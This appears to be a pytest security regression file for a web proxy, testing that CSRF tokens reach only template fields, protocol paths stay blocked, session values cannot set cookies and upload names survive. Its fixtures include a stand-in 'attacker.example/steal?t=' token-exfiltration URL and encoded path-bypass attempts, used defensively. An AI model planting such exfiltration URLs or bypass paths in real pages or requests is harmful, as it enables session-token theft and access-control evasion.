"""Issue 15, the page pipeline's findings: each test is what an attacker or a visitor sees.

The CSRF token only where the template put it, proxy mode refusing the service's protocol
paths, session values unable to add cookies, upload names kept, malformed input answered
400 and unreadable answers 502, error pages without internal addresses, and the standalone
switchers refusing cross-site requests.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterator

import httpx
import pytest

from plugit.protocol import CSRF_TOKEN_PLACEHOLDER
from plugit.testing import LiveServer

from .conftest import ProxyFactory
from .hostile_services import (
    COOKIE_SHAPED,
    LEAKY_IMAGE,
    LEAKY_TITLE,
    ProxiedRecorder,
    build_hostile_service,
)

TOKEN = re.compile(r"[A-Za-z0-9]{64}")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    # h11: uvicorn's httptools writer lower-cases answer header names (SetSession keys).
    root = str(tmp_path_factory.mktemp("hostile"))
    with LiveServer(build_hostile_service(root), http="h11") as server:
        yield server


@pytest.fixture(scope="module")
def recorder() -> Iterator[tuple[ProxiedRecorder, str]]:
    recording = ProxiedRecorder()
    with LiveServer(recording) as server:
        yield recording, server.url + "/svc/"


async def open_proxy(proxy_factory: ProxyFactory, url: str, **project: object) -> httpx.AsyncClient:
    handle = proxy_factory(url, live=True, **project)
    return handle.client


def tokens_in(html: str) -> list[str]:
    return TOKEN.findall(html)


def form_token(html: str) -> str:
    found = re.search(r'name="csrfmiddlewaretoken"\s+value="([^"]*)"', html)
    assert found, html
    return found.group(1)


# -- Medium 4: the CSRF token only where the template put it ----------------------------------


@pytest.mark.parametrize("route", ["poll", "cached_poll"])
async def test_placeholder_in_data_never_becomes_the_token(
    proxy_factory: ProxyFactory, hostile: LiveServer, route: str
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    for _ in range(2):  # the second cached_poll comes from the page cache
        response = await client.get(f"/plugIt/{route}")
        assert response.status_code == 200
        html = response.text
        token = form_token(html)
        assert TOKEN.fullmatch(token)
        assert f'<h1 id="title">{LEAKY_TITLE}</h1>' in html
        assert f'<img id="img" src="{LEAKY_IMAGE}">' in html
        assert f'var token = "{token}";' in html  # {{ csrf_token }} in the template
        assert html.count(token) == 2
        assert "attacker.example/steal?t=" + CSRF_TOKEN_PLACEHOLDER in html
        vote = await client.post("/plugIt/vote", data={"csrfmiddlewaretoken": token})
        assert vote.status_code == 200
        assert "voted" in vote.text


@pytest.mark.parametrize("route", ["leaky", "leaky_bare"])
async def test_proxy_mode_puts_the_token_only_in_fields_and_meta_tags(
    proxy_factory: ProxyFactory, recorder: tuple[ProxiedRecorder, str], route: str
) -> None:
    client = await open_proxy(proxy_factory, recorder[1], proxy_mode=True)
    response = await client.get(f"/plugIt/{route}")
    assert response.status_code == 200
    html = response.text
    token = form_token(html)
    assert TOKEN.fullmatch(token)
    assert f'<meta name="csrf-token" content="{token}">' in html
    assert html.count(token) == 2
    assert f'<h1 id="title">{CSRF_TOKEN_PLACEHOLDER}</h1>' in html
    assert f'src="https://attacker.example/steal?t={CSRF_TOKEN_PLACEHOLDER}"' in html
    assert f'href="/x?t={CSRF_TOKEN_PLACEHOLDER}"' in html
    assert f'var t = "{CSRF_TOKEN_PLACEHOLDER}";' in html


async def test_token_fill_holds_a_field_cut_at_any_byte() -> None:
    from plugit_proxy.pipeline.tokenfill import fill_token_stream

    field = f'<INPUT name="csrfmiddlewaretoken" value="{CSRF_TOKEN_PLACEHOLDER}" type=hidden>'
    page = f"<p>{CSRF_TOKEN_PLACEHOLDER}</p>{field}<meta content='{CSRF_TOKEN_PLACEHOLDER}'>"
    body = page.encode()
    expected = page.replace(f'"{CSRF_TOKEN_PLACEHOLDER}"', '"T"').replace(
        f"'{CSRF_TOKEN_PLACEHOLDER}'", "'T'"
    )
    for cut in range(len(body) + 1):

        async def chunks(cut: int = cut) -> AsyncIterator[bytes]:
            yield body[:cut]
            yield body[cut:]

        filled = b"".join([part async for part in fill_token_stream(chunks(), "T")])
        assert filled.decode() == expected, cut


# -- Medium 6: proxy mode keeps the service's protocol paths to itself --------------------------

PROTOCOL_PATHS = [
    ("GET", "ping"),
    ("GET", "version"),
    ("GET", "meta/"),
    ("GET", "meta/page"),
    ("GET", "template/page"),
    ("GET", "action/page"),
    ("POST", "action/page"),
    ("POST", "mail"),
    ("POST", "mail/"),
    ("GET", "/meta/page"),  # //meta/page: the leading slashes would be dropped
    ("GET", "%6Deta/page"),  # percent-encoded
    ("GET", "Action/page"),
]


async def test_proxy_mode_refuses_the_protocol_paths(
    proxy_factory: ProxyFactory, recorder: tuple[ProxiedRecorder, str]
) -> None:
    recording, url = recorder
    client = await open_proxy(proxy_factory, url, proxy_mode=True)
    token = form_token((await client.get("/plugIt/leaky")).text)
    recording.paths.clear()
    for method, path in PROTOCOL_PATHS:
        data = {"csrfmiddlewaretoken": token, "response_id": "1", "message": "forged"}
        response = await client.request(
            method, "/plugIt/" + path, data=data if method == "POST" else None
        )
        assert response.status_code == 404, (method, path)
        assert "plugit-header" in response.text
    assert recording.paths == []
    for path in ("page", "mailbox", "pings", "deep/meta/x"):
        response = await client.get("/plugIt/" + path)
        assert response.status_code == 200
        assert f"<p id='seen'>GET /svc/{path}</p>" in response.text


# -- Low: session values add no cookies; keys keep their case ----------------------------------


async def test_session_values_cannot_add_cookies_and_keys_keep_their_case(
    proxy_factory: ProxyFactory, hostile: LiveServer
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    assert (await client.get("/plugIt/store")).json() == {"stored": True}
    seen = (await client.get("/plugIt/read")).json()
    assert seen["session"] == COOKIE_SHAPED
    assert "admin" not in seen["cookies"]
    assert "y" not in seen["cookies"]
    assert seen["cookies"]["UserId"] == "42"
    assert seen["cookies"]["Plain"] == "blue"


# -- Low: upload names reach the service as the browser sent them ------------------------------


@pytest.mark.parametrize("name", ["résumé 1.pdf", "back\\slash & co.txt", "日本語.txt"])
async def test_upload_names_reach_the_service_unchanged(
    proxy_factory: ProxyFactory, hostile: LiveServer, name: str
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    token = form_token((await client.get("/plugIt/poll")).text)
    response = await client.post(
        "/plugIt/upload",
        data={"csrfmiddlewaretoken": token, "légende": "été"},
        files={"pièce": (name, b"%PDF-1.4", "application/pdf")},
    )
    assert response.status_code == 200
    seen = response.json()
    assert seen["files"] == {"pièce": name}
    assert seen["form"]["légende"] == "été"
